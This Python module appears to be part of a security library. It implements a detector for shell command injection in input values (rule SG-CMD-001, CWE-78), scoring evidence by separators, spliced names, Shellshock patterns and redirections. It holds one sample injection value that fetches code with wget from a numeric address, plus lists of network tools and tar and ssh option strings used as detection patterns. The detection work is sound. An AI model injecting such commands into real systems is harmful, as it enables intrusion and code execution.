r"""A value that ends its word in a command line and starts a command, a substitution or a redirection of its own.

SG-CMD-001, CWE-78. POSIX shells, bash, cmd and PowerShell.

A lexer looks at each place where a shell would begin a new command (after `;`, `|`, `&`, a line end, `$(`, a backtick, and the
start of the value), undoes the quoting inside the first word (`w''ho$@ami`, `w\hoami`, `w^hoami`), and asks three things:
does the value leave its word here, is the word a program, are the words behind it arguments as programs take them
(an option, a path, an address, nothing at all) or is it a sentence that goes on?
Also: `${IFS}`, function definitions in variables (Shellshock), variables assigned and called, wildcards that spell a
system path, `/dev/tcp`, redirections to system paths.

    attack          photo.jpg; wget -qO- http://203.0.113.9/x
    near miss       pick a size; sleep on it; ping me tomorrow & more

High: a command stands where a shell would start one. Medium: it is a word of plain English too, or the value is a command as a
whole. Low: a command in the midst of a text.

https://cwe.mitre.org/data/definitions/78.html  https://pubs.opengroup.org/onlinepubs/9799919799/utilities/V3_chap02.html
"""

from __future__ import annotations

import re
from functools import cache

from serverless_guard.detectors import Evidence
from serverless_guard.values import TYPE_CHECKING
from serverless_guard.words import commandline, programs
from serverless_guard.words.padding import through_padding
from serverless_guard.words.patterns import pattern

if TYPE_CHECKING:
    from collections.abc import Iterator

RULE = "SG-CMD-001"
CWE = 78
TITLE = "a value that would run a command of its own in a shell"
NEEDS = (
    ";", "|", "&", "`", "$", "\n", "\r", ">(", "<(", "<<", (">", "/"), (">", "."), " -", "\t", " /", " \\", " c:", "() {", "/bin/", ("?", "/"),
    ("[", "/"), ("*", "/"), "\\n", "\\r", ("{", ","), "%", "^", "proxycommand", "--use-compress", "--checkpoint", "--to-command",
)  # fmt: skip

_WRAPPERS = ("exec", "eval", "sudo", "nohup", "time", "env", "command", "xargs", "busybox", "builtin", "timeout", "nice", "setsid", "watch")
_CALLERS = ("curl", "wget", "dig", "host", "nslookup", "ping", "ping6", "telnet", "nc", "ncat", "ssh", "scp", "whois", "traceroute", "ftp", "tftp")
_HOST = pattern(r"[\w-]{1,63}(?:\.[\w-]{1,63}){1,8}(?:[:/][\w./-]{0,80})?\Z")
_COUNTED = ("sleep", "usleep", "timeout", "exit", "kill", "ping", "at", "shutdown", "fg", "seq")
_CANDIDATE = pattern(r"[;|&\n\r`(][ \t\n\r\"'(\\{@!]{0,8}+([\w./\\:-]{1,60})")
_FIRST = pattern(r"[\s\"'(\\{@!]{0,8}+([\w./\\:-]{1,60})")
_SPLICES = tuple("$'\"\\^`")
_SPLICED = pattern(
    r"[;|&\n\r`(][ \t\"'(\\{@!]{0,8}+[\w/.*?-]{0,20}(?:''|\"\"|\\[a-zA-Z]|\$[@*\-$?!#0-9]|\$\{\w{0,12}\}|\$\(\)|\$\(\(|``|\^[a-zA-Z]|"
    r"\"[a-zA-Z]{1,4}\"|'[a-zA-Z]{1,4}')[\w/.*?$'\"\\^{}()@-]"
)
_ASSIGNED = pattern(r"(?:^|[\s;&|(])([A-Za-z_]\w{0,19})=[^\s;&|]{1,40}[;&|\n][^\n]{0,60}?\$\{?\1(?!\w)")
_REDIRECT = pattern(
    r"^[\w\s\"';|&.-]{0,20}\d?>{1,2}&?\s{0,4}(?:/(?:tmp|etc|var|dev|home|root|usr|opt|proc)/|[A-Za-z]:\\|\w{1,20}\.(?:php|sh|jsp|asp|aspx|py|bat|"
    r"exe)\b)",
    re.I,
)
_SQLITE = pattern(r"[;\n]\s{0,4}\.(?:(?:shell|system|databases|tables|dump|sh)(?![\w.-])|(?:read|import|output|once|load)\s{1,4}[\w-]{0,40}[/.])", re.I)
_PATIENCE = 64  # so many programs after so many separators and no command yet: worth a report by itself, and the end of the work


@through_padding
def detect(text: str, where: str) -> Evidence | None:
    """Evidence that `text` starts a command of its own; linear in its length."""
    if "\\n" in text or "\\r" in text:  # a line end as JSON and many shells' `echo` write it, or the splice in `u\name`
        return _look(text.replace("\\n", "\n").replace("\\r", "\n")) or _look(text)
    return _look(text)


def _look(text: str) -> Evidence | None:
    low = text.lower()
    document = (text.count("\n", 0, 4000) > 3 and len(text) > 200) or "```" in text
    for literal, source in commandline.SURE:
        if literal not in low or (literal in ("do", "then") and "\n" in text.strip()):
            continue
        sure = re.search(source, low)
        if sure and not (literal == "sh" and _list_item(low, sure.start())):
            return Evidence("low" if document else "high", "shell syntax that nothing else has")
    found = (_commands(text[:400], low[:400], True) or _last(text)) if document else _commands(text, low, False)
    if found or document:
        return found
    if "=" in text and "$" in text and _ASSIGNED.search(text):
        return Evidence("high", "variable assigned, then called")
    if "/" in text and ("?" in text or "[" in text or "*" in text) and commandline.spells_a_system_path(low):
        return Evidence("high", "wildcards that spell a system path")
    if ">" in text and _REDIRECT.match(text):
        return Evidence("medium", "redirection to a file of the system")
    if "." in text and "{" not in text and _SQLITE.search(text):
        return Evidence("medium", "command of a database shell")
    return None


def _list_item(low: str, at: int) -> bool:
    """Whether a pipe to a shell at `at` only parts two names: `powershell | bash`."""
    head = low[max(0, at - 80) : at].strip()
    return bool(head) and head.replace("-", "").replace("_", "").isalnum()


def _last(text: str) -> Evidence | None:
    """What the last line of a long text ends in, seen as if a text stood before it."""
    line = text.rstrip()[-160:]
    for separator in (";", "&", "|"):
        at = line.rfind(separator)
        if at > 0:
            found = _command("padding of words " * 13 + line, 13 * 17 + at + 1, separator, 0)
            if found is not None and found is not _NONE:
                return found
    return None


def _commands(text: str, low: str, document: bool) -> Evidence | None:
    """The strongest evidence at any place where a command could start."""
    known = _programs()
    best = None
    first = _FIRST.match(low)
    if not document and first and (first[1] in known or commandline.program(first[1]) in known or low[first.end() : first.end() + 1] in _SPLICES):
        best = _command(text, 0, "", 0)
        if best is _NONE:
            best = None
    tried = 0
    for start in _starts(text, low, known):
        separator = text[start]
        if separator == "(":
            separator = text[start - 1 : start] + "("
            if separator not in _SEPARATORS or (separator != "$(" and text[max(0, start - 2) : start - 1].strip(" \t\n;|&='\"")):
                continue  # a call, or the end of an element of HTML
        elif separator in "&|" and text[start - 1 : start] == separator:
            separator *= 2
        if document and separator == "\n" and start:
            continue
        leaves = _leaves(text, start - len(separator) + 1)
        found = _command(text, start + 1, separator, leaves)
        if found is None or found is _NONE:
            tried += 1
            if tried > _PATIENCE:
                return best or Evidence("low", "many programs after separators")
        elif document:
            if leaves == 3:
                return found._replace(confidence="medium")
        elif found.confidence == "high":
            return found
        elif best is None or best.confidence == "low":
            best = found
    return best


def _starts(text: str, low: str, known: dict[str, int]) -> Iterator[int]:
    """Where a separator stands before a word that is a program, or is spelled as nothing but a program would be."""
    named = {
        word for word in set(_CANDIDATE.findall(low)) if word in known or commandline.program(word) in known or word.endswith((".exe", ".bat", ".cmd", ".ps1"))
    }
    if low[:1] in _SEPARATORS:
        yield 0
    if named:
        for found in _CANDIDATE.finditer(low):
            if found[1] in named and found.start():
                yield found.start()
    if any(map(text.__contains__, _SPLICES)):
        for found in _SPLICED.finditer(text):
            yield found.start()


def _leaves(text: str, at: int) -> int:
    """How surely the value leaves its word at `at`: 3 right at the start, 2 after one word, 1 after a few, 0 in a text."""
    if at > 200:
        head = text[at - 200 : at]
        return 0 if head.count(" ") > 3 else 2
    if at and text[at] in "`$" and text[at - 1] in ";|&":
        return 2
    head = text[:at].strip(" \t\"'`)]}\\;|&\n\r")
    if (len(head) < 4 and not (len(head) > 1 and head.isalpha())) or head.isdigit():
        return 3
    spaces = head.count(" ")
    return 2 if not spaces else 1 if spaces < 3 and text[at - 1] in "\"')" else 0


def _command(text: str, at: int, separator: str, leaves: int) -> Evidence | None:
    """What stands at `at`: evidence, `none` for a program that is no command here, None for no program at all."""
    words, end, spliced, closed = commandline.words(text, at)
    if not words:
        return None
    name = commandline.program(words[0])
    kind = _programs().get(name) or (1 if name.endswith((".exe", ".bat", ".cmd", ".ps1", ".vbs")) and separator else None)
    if kind is None:
        if leaves == 3 and separator and len(words) > 1 and words[1][:1] in "-/" and len(words[1]) > 1 and re.fullmatch(r"[a-z][\w.-]{1,24}", words[0]):
            return Evidence("medium", "separator, unknown program, option or path")
        return None
    if (kind > 1 or separator == "\n") and words[0].istitle() and words[0].isalpha() and separator != "`":
        return _NONE  # as sentences begin
    arguments = words[1:]
    first = arguments[0] if arguments else ""
    after = text[end : end + 1]
    bare = not arguments
    if after == "=" or (separator == "&" and bare and after in ("", "&") and "=" in text[:at]):
        return _NONE  # a field of a form, a query string or a cookie
    if (bare and kind > 1 and text[: max(0, at - 2)].strip() and not (words[0].islower() or "/" in words[0])) or (
        bare and separator == "\n" and len(text.strip("\n\r \"';`|")) > len(words[0]) and (after or not _address(text[:at]))
    ):
        return _NONE
    good = bool(first) and first != "--" and (commandline.ARGUMENT.match(first) is not None or first.lower() in programs.SUBCOMMANDS.get(name, "").split())
    if name in _COUNTED and first.rstrip("smhd#'\"").replace(":", "").isdigit():
        good = len(arguments) == 1 or arguments[1][:1] in "-/#>\"'" or name in ("at", "timeout")  # not "sleep 8 hours"
    if name in _CALLERS and _HOST.match(first):
        good = True
    if name in _WRAPPERS and first.lower() in _programs() and _programs()[first.lower()] < 3:
        good = True
    if name == "echo" and (leaves == 3 or separator in ("`", "$(")) and 0 < len(arguments) < 4:
        good = True
    if words[0] != name and words[0].lower().startswith(("/bin/", "/usr/bin/", "/sbin/", "/usr/sbin/", "/usr/local/bin/")):
        kind, good = 1, good or bare or len(arguments) < 4
    if spliced and separator and (good or bare or leaves > 1):
        return Evidence("high", "command with its name spliced")
    if separator == "":
        return _whole(text, name, kind, good, bare, spliced, arguments, end)
    shape = f"{_SEPARATORS.get(separator, 'separator')}, command{', arguments' if arguments else ''}"
    if separator in ("$(", "<(", ">("):
        if kind == 3 and bare:
            return _NONE
        return Evidence("high" if closed == ")" else "medium", shape) if good or bare or kind == 1 else _NONE
    if separator == "`":
        if closed != "`" or text[at - 2 : at - 1] == "`" or text[end + 1 : end + 2] == "`" or not (good or bare or kind == 1):
            return _NONE
        tail = text[end + 1 : end + 200].strip()
        if name in programs.DEVELOPERS and arguments[:1] not in (["-c"], ["-e"], ["-r"]):
            return _NONE
        if leaves > 1 and (tail.count(" ") < 3 or tail[0] in "#;|&'\"") and (kind < 3 or good or at < 3) and text[:2] not in ("# ", "##", "* ", "- ", "> "):
            return Evidence("high" if (kind < 3 or good) and (at > 1 or tail) else "medium", shape)
        return _NONE
    strict = separator in ("&&", "||")
    if leaves == 3:
        if good or (bare and kind < 3) or kind == 1:
            return Evidence("high" if kind < 3 or good else "medium", shape)
        return Evidence("medium", shape) if bare and len(text) < 40 and name in programs.BARE else _NONE
    if leaves == 2:
        if good or (bare and kind == 1 and name in programs.BARE) or (kind == 1 and 0 < len(arguments) < 4):
            return Evidence("high", shape)
        if bare and kind < 3 and name in programs.BARE and (strict or _address(text[:at])):
            return Evidence("medium", shape)
        return Evidence("low", shape) if bare and not after and name in ("ls", "id", "pwd", "ps") and separator == ";" and "=" not in text else _NONE
    if leaves == 1 or strict:
        if (good and (leaves == 1 or kind == 1)) or (bare and kind == 1):
            return Evidence("medium" if leaves else "low", shape)
        return _NONE
    ends = len(text) - end < 24 and not text[end:].strip(" \t\n\r\"'`;)#-")
    if (
        separator in _CLEAR
        and ends
        and len(text) > 200
        and ((kind == 1 and len(arguments) < 3) or good or (bare and name in ("ls", "id", "pwd", "ps", "env", "dir", "w", "uname")))
    ):
        return Evidence("low", shape)  # the last words of a long value: what padding leaves
    if (kind == 1 and good) or (kind == 2 and good and first.startswith(("/etc/", "/dev/", "/proc/", "/tmp/"))):
        return Evidence("low", shape)
    return _NONE


def _whole(text: str, name: str, kind: int, good: bool, bare: bool, spliced: bool, arguments: list[str], end: int) -> Evidence | None:
    """The value begins with a program: a command as a whole, or a sentence."""
    if spliced and len(text) < 300 and ("/" not in text[:end] or text[:1] == "/"):
        return Evidence("high", "command with its name spliced")
    first, follows = arguments[0] if arguments else "", text[end : end + 2]
    if (
        len(text) > 300
        or kind == 3
        or (name in programs.DEVELOPERS and text[:1] != "/" and follows[:1] not in (";", "|") and arguments[:1] not in (["-c"], ["-e"], ["-r"]))
    ):
        return _NONE
    if good and not bare:
        if first in ("<", ">") and "{" in text:
            return _NONE  # a selector of CSS
        prose = sum(word.isalpha() and len(word) > 2 for word in arguments)
        if prose > (2 if arguments[0].startswith(("-", "/", "<")) else 1):
            return _NONE
        return Evidence("medium", "command as the whole value")
    if bare and follows[:1] in (";", "|") and follows != "; " and kind == 1 and name in programs.BARE:
        return Evidence("medium", "command as the whole value")
    return _NONE


def _address(head: str) -> bool:
    head = head.strip(" \t\"'&|;")
    return "." in head or head.isdigit() or "/" in head


@cache
def _programs() -> dict[str, int]:
    """Name of a program: 1 nobody writes it in a sentence, 2 short, 3 English."""
    return {name: kind for kind, names in ((3, programs.ENGLISH), (2, programs.SHORT), (1, programs.PLAIN)) for name in names.split()}


_NONE = Evidence("low", "a program that is no command here")
_CLEAR = (";", "|", "||", "&&", "&")
_SEPARATORS = {
    ";": "semicolon",
    "|": "pipe",
    "||": "or",
    "&&": "and",
    "&": "ampersand",
    "\n": "line end",
    "\r": "line end",
    "$(": "substitution",
    "`": "backtick",
    "<(": "process substitution",
    ">(": "process substitution",
}
